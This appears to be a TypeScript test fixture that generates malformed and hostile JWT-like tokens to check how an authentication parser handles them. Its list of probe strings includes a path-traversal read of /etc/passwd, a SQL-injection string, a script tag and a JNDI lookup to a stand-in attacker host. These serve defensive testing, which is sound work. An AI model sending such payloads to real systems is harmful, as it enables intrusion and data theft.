import type { NamedToken } from './auth-provider-harness.ts';
import { EncodedPart, forge, hmac, rawPart } from './forge.ts';
import type { HostileContext } from './hostile-tokens.ts';

/** Texts that are similar to a token, and texts that are not. */
export function brokenTokens({ claims, secret }: HostileContext): readonly NamedToken[] {
  const sign = hmac(secret);
  const token = forge({ alg: 'HS256', typ: 'JWT' }, claims, sign);
  const [head = '', body = '', signature = ''] = token.split('.');
  const headOf = (header: unknown): string => forge(header, claims, sign);
  return [
    ...texts.map((text) => ({ name: text === '' ? 'nothing' : JSON.stringify(text), token: text })),
    { name: 'a part too many', token: `${token}.${signature}` },
    { name: 'five parts, as encrypted ones have', token: `${head}.${body}.${signature}.${body}.${signature}` },
    { name: 'a dot before', token: `.${token}` },
    { name: 'a dot behind', token: `${token}.` },
    { name: 'two dots between', token: `${head}..${body}.${signature}` },
    { name: 'no header', token: `.${body}.${signature}` },
    { name: 'no payload', token: forge({ alg: 'HS256' }, new EncodedPart(''), sign) },
    { name: 'no header and no payload', token: forge(new EncodedPart(''), new EncodedPart(''), sign) },
    { name: 'parts in another order', token: `${body}.${head}.${signature}` },
    {
      name: 'another payload under the signature',
      token: `${head}.${Buffer.from('{"sub":"root"}').toString('base64url')}.${signature}`,
    },
    {
      name: 'another header over the signature',
      token: `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.${body}.${signature}`,
    },
    { name: 'a line end within', token: `${head}.${body}\n.${signature}` },
    { name: 'a zero behind', token: `${token}\u0000` },
    { name: 'a comma and it again', token: `${token}, ${token}` },
    { name: 'its scheme twice', token: `Bearer ${token}` },
    { name: 'in quotes', token: `"${token}"` },
    { name: 'padded', token: `${head}.${body}.${signature}=` },
    { name: 'padded in each part', token: `${head}=.${body}==.${signature}=` },
    { name: 'escaped dots', token: token.replaceAll('.', '%2e') },
    { name: 'wide dots', token: token.replaceAll('.', '．') },
    { name: 'a mark of byte order before', token: `\uFEFF${token}` },
    { name: 'a space without width within', token: `${head}.\u200B${body}.${signature}` },
    { name: 'letters that are no base64url', token: `${head}.${body}.${signature.slice(0, -1)}!` },
    { name: 'ordinary base64 in the signature', token: `${head}.${body}.${signature.slice(0, -2)}+/` },
    { name: 'in lower case', token: token.toLowerCase() },
    { name: 'bits left over in the signature', token: `${head}.${body}.${withBitsLeftOver(signature)}` },
    { name: 'a part of one letter', token: forge({ alg: 'HS256' }, new EncodedPart('A'), sign) },
    { name: 'a header of null', token: headOf(null) },
    { name: 'a header that is a list', token: headOf([{ alg: 'HS256' }]) },
    { name: 'a header that is a text', token: headOf('HS256') },
    { name: 'a header that is a number', token: headOf(256) },
    { name: 'a header that is empty', token: headOf({}) },
    { name: 'a header that is no JSON', token: headOf(rawPart('{alg:HS256}')) },
    { name: 'a header that is cut off', token: headOf(rawPart('{"alg":"HS256"')) },
    { name: 'a header with alg only in its prototype', token: headOf(rawPart('{"__proto__":{"alg":"HS256"}}')) },
    { name: 'a header nested deeper than stacks are', token: headOf(rawPart(`{"alg":${'['.repeat(4_000)}`)) },
    { name: 'a header of 100 kB', token: headOf({ alg: 'HS256', pad: 'x'.repeat(100_000) }) },
    { name: 'a payload of 1 MB', token: forge({ alg: 'HS256' }, { ...claims, pad: 'x'.repeat(1_000_000) }, sign) },
    { name: 'a signature of 1 MB', token: `${head}.${body}.${'A'.repeat(1_000_000)}` },
    { name: 'a hundred thousand dots', token: '.'.repeat(100_000) },
    { name: 'a megabyte of nothing in particular', token: 'a'.repeat(1_000_000) },
    { name: 'a serialisation as JSON', token: JSON.stringify({ payload: body, protected: head, signature }) },
    { name: 'the secret itself', token: secret },
  ];
}

const texts = [
  ['', ' ', '.', '..', '...', 'null', 'undefined', 'true', 'false', '0', '{}', '[]', 'Bearer', 'Bearer ', 'admin'],
  [
    'a.b.c',
    'e30.e30.e30',
    'e30.e30.',
    'bnVsbA.bnVsbA.bnVsbA',
    '\u0000',
    '\u0000.\u0000.\u0000',
    '💥.💥.💥',
    '\uD800.\uD800.\uD800',
  ],
  ['__proto__', 'constructor', '../../etc/passwd', "' OR '1'='1", '%00', '<script>', '${jndi:ldap://attacker.example}'],
].flat();

/** Decodes to the same bytes: two bits of the last character of 32 bytes are ignored. */
function withBitsLeftOver(signature: string): string {
  const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const last = letters.indexOf(signature.slice(-1));
  return `${signature.slice(0, -1)}${letters[last ^ 1] ?? ''}`;
}
